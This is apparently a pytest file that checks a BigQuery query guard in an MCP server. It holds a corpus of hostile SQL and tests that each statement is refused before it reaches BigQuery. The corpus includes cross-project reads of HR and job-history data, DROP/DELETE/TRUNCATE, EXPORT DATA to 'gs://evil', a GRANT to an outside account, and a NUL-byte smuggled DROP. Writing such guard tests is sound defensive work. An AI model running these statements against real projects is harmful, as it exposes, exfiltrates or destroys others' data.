# ruff: noqa: E501  (a corpus of SQL statements reads best one statement per line)
"""Hostile BigQuery SQL: each input must be refused before any request leaves the server, with a
message that says what is allowed. The caller's Google credentials can usually read their own company's
datasets, write to their project and spend money, so the guard confines a query to IDC's public tables.

Groups: reads outside IDC's datasets, statements that are not a SELECT, scripting and multiple
statements, functions that reach outside (federated queries, ML/AI, UDFs, identity), and inputs that
exhaust the parser.
"""

from __future__ import annotations

import re

import pytest
from mcp import Client

from idc_mcp.bigquery.guard import BigQueryRejected, validate
from idc_mcp.bigquery.service import BigQueryError, run_bigquery_query
from idc_mcp.catalog.database import get_catalog
from idc_mcp.config import load_settings
from tests.servers import server_from_environment

T = "`bigquery-public-data.idc_current.dicom_all`"

OUTSIDE_IDC = {
    "another_project": "SELECT * FROM `my-company.hr.salaries`",
    "another_public_dataset": "SELECT word FROM `bigquery-public-data.samples.shakespeare`",
    "billing_project_dataset": "SELECT * FROM hr.salaries",
    "bare_table_name": "SELECT * FROM salaries",
    "region_job_history": "SELECT query FROM `region-us.INFORMATION_SCHEMA.JOBS`",
    "region_jobs_by_user": "SELECT query FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_USER",
    "project_schemata": "SELECT * FROM `my-project.INFORMATION_SCHEMA.SCHEMATA`",
    "idc_dataset_other_view": "SELECT * FROM `bigquery-public-data.idc_current.INFORMATION_SCHEMA.PARTITIONS`",
    "join_to_other_project": f"SELECT * FROM {T} JOIN `evil.ds.t` USING (SeriesInstanceUID)",
    "comma_join_other_project": f"SELECT * FROM {T} AS a, `evil-proj.ds.t` AS b",
    "scalar_subquery_other_project": f"SELECT (SELECT MAX(x) FROM `p.d.t`) AS m FROM {T}",
    "in_subquery_other_project": f"SELECT 1 FROM {T} WHERE PatientID IN (SELECT id FROM `corp.crm.people`)",
    "cte_shadowing_other_project": "WITH dicom_all AS (SELECT 1 AS x) SELECT * FROM `other.idc_current.dicom_all`",
    "wildcard_other_project": "SELECT * FROM `my-project.logs.events_*`",
    "wildcard_dataset": "SELECT * FROM `bigquery-public-data.idc_*.dicom_all`",
    "homoglyph_project": "SELECT * FROM `bigquery\u2010public\u2010data.idc_current.dicom_all`",
    "clinical_dataset_outside_scope": "SELECT * FROM `bigquery-public-data.idc_current_clinical.nlst_prsn`",
    "union_with_other_project": f"SELECT SeriesInstanceUID FROM {T} UNION ALL SELECT ssn FROM `corp.hr.people`",
}
NOT_A_SELECT = {
    "insert": f"INSERT INTO {T} (collection_id) VALUES ('x')",
    "update": f"UPDATE {T} SET Modality = 'x' WHERE TRUE",
    "delete": "DELETE FROM `my-project.ds.t` WHERE TRUE",
    "merge": "MERGE `my.ds.t` AS t USING `my.ds.s` AS s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "create_table_as_select": f"CREATE TABLE `my.ds.copy` AS SELECT * FROM {T}",
    "create_view": f"CREATE OR REPLACE VIEW `my.ds.v` AS SELECT * FROM {T}",
    "drop_table": "DROP TABLE `my-project.ds.t`",
    "alter_table": "ALTER TABLE `my.ds.t` ADD COLUMN c STRING",
    "truncate": "TRUNCATE TABLE `my.ds.t`",
    "export_data": f"EXPORT DATA OPTIONS (uri = 'gs://evil/*', format = 'CSV') AS SELECT * FROM {T}",
    "load_data": "LOAD DATA INTO `my.ds.t` FROM FILES (format = 'CSV', uris = ['gs://evil/x.csv'])",
    "grant": "GRANT `roles/bigquery.dataViewer` ON TABLE `my.ds.t` TO 'user:evil@example.com'",
    "temp_function_then_select": "CREATE TEMP FUNCTION f(x INT64) AS (x); SELECT f(1)",
    "javascript_function": "CREATE FUNCTION `my.ds.f`(x STRING) RETURNS STRING LANGUAGE js AS 'return x'",
    "create_model": "CREATE MODEL `my.ds.m` OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label",
    "select_into": f"SELECT * INTO new_table FROM {T}",
}
SCRIPTING = {
    "declare_set_select": "DECLARE x INT64; SET x = 1; SELECT x",
    "execute_immediate": "EXECUTE IMMEDIATE 'DROP TABLE `my.ds.t`'",
    "begin_end_block": "BEGIN SELECT 1; END",
    "transaction": "BEGIN TRANSACTION; DELETE FROM `my.ds.t` WHERE TRUE; COMMIT TRANSACTION",
    "select_then_drop": f"SELECT Modality FROM {T}; DROP TABLE `my.ds.t`",
    "call_procedure": "CALL `my-project.ds.proc`()",
    "for_loop": "FOR x IN (SELECT 1 AS y) DO SELECT 1; END FOR",
    "system_variable": "SELECT @@project_id",
    "query_parameter": f"SELECT * FROM {T} WHERE collection_id = @c",
    "if_then": "IF TRUE THEN SELECT 1; END IF",
}
REACHING_OUT = {
    "external_query_in_from": "SELECT * FROM EXTERNAL_QUERY('us.my_conn', 'SELECT * FROM users')",
    "external_query_in_select": "SELECT EXTERNAL_QUERY('us.my_conn', 'SELECT 1') AS x",
    "ml_predict": "SELECT * FROM ML.PREDICT(MODEL `my.ds.m`, (SELECT 1 AS x))",
    "ai_generate_costs_money": f"SELECT AI.GENERATE(SeriesDescription) AS g FROM {T}",
    "ml_generate_text": "SELECT * FROM ML.GENERATE_TEXT(MODEL `my.ds.llm`, (SELECT 'hi' AS prompt))",
    "session_user_identity": "SELECT SESSION_USER() AS me",
    "udf_in_other_project": f"SELECT `my-project.ds.fn`(PatientID) AS x FROM {T}",
    "udf_in_dataset_shadowing_builtin": f"SELECT myds.lower(PatientID) AS x FROM {T}",
    "keys_namespace": "SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256') AS k",
    "aead_namespace": "SELECT AEAD.ENCRYPT(b'k', 'x', 'y') AS e",
    "object_table_metadata": "SELECT OBJ.FETCH_METADATA(ref) AS m FROM `my.ds.objects`",
    "vector_search": "SELECT * FROM VECTOR_SEARCH(TABLE `my.ds.t`, 'v', TABLE `my.ds.q`)",
    "appends_change_history": "SELECT * FROM APPENDS(TABLE `my.ds.t`)",
    "error_function": f"SELECT ERROR(PatientID) AS e FROM {T}",
}
EXHAUSTION = {
    "very_long_sql": f"SELECT Modality FROM {T} WHERE PatientID IN ({', '.join(repr(str(i)) for i in range(3000))})",
    "deep_brackets": "SELECT " + "(" * 60 + "1" + ")" * 60,
    "nul_byte": f"SELECT Modality FROM {T}\x00; DROP TABLE x",
    "many_nodes": f"SELECT 1 FROM {T} WHERE " + " OR ".join(f"instance_size = {i}" for i in range(1500)),
    "recursive_cte": "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r",
    "unterminated_comment": f"SELECT Modality FROM {T} /* never closed",
    "empty": "   ",
}
CORPUS = {**OUTSIDE_IDC, **NOT_A_SELECT, **SCRIPTING, **REACHING_OUT, **EXHAUSTION}


def test_the_corpus_is_large_enough():
    assert len(CORPUS) >= 40, len(CORPUS)


@pytest.mark.parametrize("sql", CORPUS.values(), ids=CORPUS.keys())
def test_hostile_sql_is_refused_with_a_reason(sql: str):
    with pytest.raises(BigQueryRejected) as refused:
        validate(sql, max_rows=10)
    message = str(refused.value)
    # Every refusal says what is allowed or what to write instead.
    assert re.search(r"\b(allowed|only|Send|Write|Use|Name|Check|Flatten|Rewrite|Remove)\b", message), message


class _NoNetwork:
    """A backend that fails the test if anything tries to reach BigQuery."""

    def __getattr__(self, name: str):
        raise AssertionError(f"a refused query reached the BigQuery backend ({name})")


@pytest.mark.parametrize("sql", CORPUS.values(), ids=CORPUS.keys())
def test_hostile_sql_never_reaches_bigquery(sql: str, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("IDC_MCP_BQ_API_ENDPOINT", "http://127.0.0.1:9")  # never contacted
    with pytest.raises(BigQueryError):
        run_bigquery_query(load_settings(), get_catalog(), sql, 10, backend=_NoNetwork())  # type: ignore[arg-type]


MCP_SAMPLE = [
    "another_project",
    "region_job_history",
    "export_data",
    "select_then_drop",
    "external_query_in_from",
]


@pytest.mark.anyio
async def test_through_the_tool_hostile_sql_is_a_tool_error_and_no_job_reaches_the_emulator(bq_env):
    jobs_before = len(bq_env.emulator.answered("POST", "/jobs"))
    async with Client(server_from_environment()) as client:
        for key in MCP_SAMPLE:
            result = await client.call_tool("bigquery_query", {"sql": CORPUS[key]})
            assert result.is_error, key
            assert "Traceback" not in result.content[0].text
        # The server still answers an ordinary query afterwards.
        ok = await client.call_tool("bigquery_query", {"sql": f"SELECT Modality FROM {T} LIMIT 1"})
        assert not ok.is_error, ok.content[0].text
    assert len(bq_env.emulator.answered("POST", "/jobs")) == jobs_before + 2  # the dry run and the job
